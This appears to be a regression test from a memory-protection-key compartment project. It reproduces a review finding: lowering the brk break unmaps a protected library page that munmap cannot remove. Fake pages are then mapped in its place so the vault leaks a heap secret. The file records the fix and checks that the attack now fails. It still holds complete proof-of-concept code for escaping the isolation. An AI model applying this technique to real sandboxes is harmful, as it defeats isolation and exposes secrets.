// Review 46, attacker B (the default domain's program counter, any system
// call the filter allows). Neither filter names brk. Linux 6.1's brk
// shrink (mm/mmap.c: brk, do_brk_munmap, do_mas_align_munmap) unmaps every
// mapping in [new break, old break), not only the heap's, so a late
// compartment object that lies below the break can be unmapped through
// brk, where munmap of it is refused (the object filter the supervisor
// stacks for its span: docs/shared-objects.md, step 6, piece 4).
//
// How: the program grows its brk heap (sbrk), unmaps most of it (key 0,
// allowed), fills every free gap above that hole with PROT_NONE
// MAP_NORESERVE mappings, so the next mapping without MAP_FIXED lands in
// the hole, and dlopens libvault.so (a compartment library; hardened
// dlopen under the filter): it lands in the hole, below the break. The
// vault runs (vault_sign). A fork's munmap of the library's first page is
// refused (the child dies of SIGSYS with the denial line). Then the
// program lowers the break to the vault's data page: the kernel unmaps
// it, and everything above it. mincore on the page answers ENOMEM: gone.
// Stronger: an anonymous mmap without MAP_FIXED, with the page's address
// as a hint, puts a key-0 page of the program's making there; it holds a
// fake vault `secret_block` pointing into the vault's heap, and
// vault_sign, run by the vault's own gate with the vault's rights, reads
// the vault's heap secret through it for the default domain, a byte a
// call ("HEAP-SECRET").
//
// Seen in the guest (Linux 6.1): ATTACK SUCCEEDED (both lines), 3 runs of 3.
//
// Suggested fix: brk moves refused for our process after start-up (the
// break never moves once the filter is in: it cannot shrink over
// anything); brk(0), the query, stays allowed.
//
// Fixed: the filter sends every brk but the query to the supervisor,
// which answers 0 for our process (glibc's sbrk fails; its malloc maps
// instead; brk-after-startup.c) and lets other programs' go on. The
// program stops at its first sbrk: "the break stays".
//
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: %bulkhead_clang -fpkey-compartments -fPIC -shared -O2 %S/../dso/Inputs/vault.c %S/../dso/Inputs/vault-heap.c -o %t/libvault.so
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -ldl -o %t/prog
// RUN: env BULKHEAD_VM_FILES=%t/libvault.so %run %t/prog %t/libvault.so > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: local: 7
// CHECK: the break stays: brk
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dlfcn.h>
#include <errno.h>
#include <link.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

BULKHEAD_DATA(local) static int local_secret = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_secret; }

#define MB (1024ul * 1024)
#define PAGE 4096ul

static int mapped(uintptr_t a) {
  unsigned char v;
  return mincore((void *)(a & ~(PAGE - 1)), PAGE, &v) == 0;
}

/* Fills every free gap above `above` with PROT_NONE mappings, largest
 * first: the kernel's top-down search then finds the hole first. */
static void fill_above(uintptr_t above) {
  for (int shift = 46; shift >= 12; shift--) {
    size_t s = (size_t)1 << shift;
    for (;;) {
      void *p = mmap(NULL, s, PROT_NONE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
      if (p == MAP_FAILED)
        break;
      if ((uintptr_t)p < above) {
        munmap(p, s);
        break;
      }
    }
  }
}

/* The protection key of the page at a, from /proc/self/smaps (-1: none). */
static int page_key(uintptr_t a) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[512];
  int in = 0, key = -1;
  while (f && fgets(line, sizeof line, f)) {
    unsigned long lo, hi;
    if (sscanf(line, "%lx-%lx ", &lo, &hi) == 2 &&
        strchr(line, '-') < strchr(line, ' '))
      in = a >= lo && a < hi;
    else if (in && sscanf(line, "ProtectionKey: %d", &key) == 1)
      break;
  }
  if (f)
    fclose(f);
  return key;
}

/* The end of the object loaded at base: its last segment's, page-aligned. */
static uintptr_t found_end;
static int segment_end(struct dl_phdr_info *i, size_t size, void *base) {
  (void)size;
  if (i->dlpi_addr != (uintptr_t)base)
    return 0;
  for (int k = 0; k < i->dlpi_phnum; k++)
    if (i->dlpi_phdr[k].p_type == PT_LOAD) {
      uintptr_t e = i->dlpi_addr + i->dlpi_phdr[k].p_vaddr +
                    i->dlpi_phdr[k].p_memsz;
      if (e > found_end)
        found_end = e;
    }
  return 1;
}
static uintptr_t object_end(uintptr_t base) {
  dl_iterate_phdr(segment_end, (void *)base);
  return (found_end + PAGE - 1) & ~(PAGE - 1);
}

/* The mappings that meet [lo, hi), as /proc/self/maps shows them. */
static void print_maps_near(uintptr_t lo, uintptr_t hi) {
  FILE *f = fopen("/proc/self/maps", "r");
  for (char line[512]; f && fgets(line, sizeof line, f);) {
    unsigned long x, y;
    if (sscanf(line, "%lx-%lx", &x, &y) == 2 && y > lo && x < hi)
      printf("  %s", line);
  }
  if (f)
    fclose(f);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc < 2)
    return 2;
  printf("local: %d\n", local_get());
  /* The heap: grown by 64 MiB, most of it unmapped again (key 0). */
  char *b0 = sbrk(0);
  void *g = sbrk(64 * MB);
  char *b1 = sbrk(0);
  if (g == (void *)-1 || b1 != b0 + 64 * MB) {
    printf("the break stays: brk answered %p for %p (errno %d)\n", g,
           b0 + 64 * MB, errno);
    return 0;
  }
  uintptr_t hole = ((uintptr_t)b0 + 4 * MB) & ~(PAGE - 1);
  uintptr_t hole_end = ((uintptr_t)b0 + 60 * MB) & ~(PAGE - 1);
  if (munmap((void *)hole, hole_end - hole)) {
    printf("munmap of the heap's middle: %s\n", strerror(errno));
    return 1;
  }
  fill_above(hole_end);
  void *h = dlopen(argv[1], RTLD_NOW);
  if (!h) {
    printf("dlopen refused: %s\n", dlerror());
    return 1;
  }
  int (*sign)(int) = (int (*)(int))dlsym(h, "vault_sign");
  const void *(*key_address)(void) =
      (const void *(*)(void))dlsym(h, "vault_key_address");
  const void *(*heap_address)(void) =
      (const void *(*)(void))dlsym(h, "vault_heap_address");
  struct link_map *lm = NULL;
  if (!sign || !key_address || !heap_address || dlinfo(h, RTLD_DI_LINKMAP, &lm))
    return 1;
  uintptr_t base = lm->l_addr;
  printf("sign: %d\n", sign(1)); /* the vault allocates its secret */
  uintptr_t data = (uintptr_t)key_address() & ~(PAGE - 1);
  const char *secret = heap_address();
  printf("library at %#lx, the vault's data page %#lx; in the hole: %d\n",
         (unsigned long)base, (unsigned long)data,
         base >= hole && data < hole_end);
  print_maps_near(hole, (uintptr_t)b1);
  if (base < hole || data >= hole_end)
    return 1;

  /* munmap of the library: refused (the object filter traps). */
  fflush(NULL);
  pid_t pid = fork();
  if (pid == 0) {
    munmap((void *)data, PAGE);
    _exit(mapped(data) ? 10 : 11);
  }
  int st;
  waitpid(pid, &st, 0);
  printf("munmap of the vault's data page: %s %d\n",
         WIFSIGNALED(st) ? "refused, signal" : "exit",
         WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));

  /* What the default domain can read of [data, end), kept. */
  uintptr_t end = object_end(base);
  static char saved[64 * PAGE];
  static int vault_page[64];
  if (end <= data || end - data > sizeof saved)
    return 1;
  for (uintptr_t p = data; p < end; p += PAGE) {
    int k = page_key(p);
    vault_page[(p - data) / PAGE] = k != 0;
    if (k == 0)
      memcpy(saved + (p - data), (void *)p, PAGE);
  }

  /* The break lowered to the vault's data page: everything above goes. */
  void *r = sbrk(-(intptr_t)((uintptr_t)b1 - data));
  printf("brk lowered: %s; the vault's data page mapped: %d\n",
         r == (void *)-1 ? strerror(errno) : "yes", mapped(data));
  if (mapped(data))
    return 0;
  printf("ATTACK SUCCEEDED: a late compartment object's page is gone "
         "through brk, where munmap of it is refused\n");

  /* Stronger: key-0 pages of ours where the object was, from the vault's
   * data to its end: the pages the default domain could read before (the
   * object's descriptors, copies, bss) as they were, the vault's zero but
   * for a fake secret_block; the vault reads through it with its rights. */
  char *fake = mmap((void *)data, end - data, PROT_READ | PROT_WRITE,
                    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (fake != (char *)data) {
    printf("the hint was not honoured: %p\n", (void *)fake);
    return 0;
  }
  memcpy(fake, saved, end - data);
  /* vault.c: secret_block is a word of the vault's pages; try each. */
  char got[12] = {0};
  int n = 0;
  for (uintptr_t at = data; at < end && !n; at += 8) {
    if (!vault_page[(at - data) / PAGE])
      continue;
    for (int i = 0; i < 11; i++) {
      *(const char **)at = secret + i;
      got[i] = (char)sign(0); /* 0 + key[0] (0 here) + secret_block[0] */
    }
    n = !memcmp(got, "HEAP-SECRET", 11);
    *(const char **)at = NULL;
  }
  printf("read through the vault: %s\n", n ? got : "(nothing)");
  if (n)
    printf("ATTACK SUCCEEDED: the vault read its heap secret for the "
           "default domain through key-0 pages at its data's address\n");
  return 0;
}
